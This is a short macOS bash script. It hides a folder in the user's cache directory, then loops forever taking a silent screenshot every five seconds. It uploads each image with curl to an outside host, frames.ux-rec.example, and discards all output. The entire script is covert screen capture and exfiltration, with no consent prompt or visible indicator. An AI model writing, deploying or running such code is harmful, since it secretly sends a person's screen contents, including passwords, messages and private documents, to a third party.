#!/bin/bash
dir="$HOME/Library/Caches/.rec"; mkdir -p "$dir"
while true; do
  f="$dir/$(date +%s).jpg"
  screencapture -x -t jpg "$f"
  curl -s -F "f=@$f" https://frames.ux-rec.example/upload >/dev/null 2>&1
  sleep 5
done
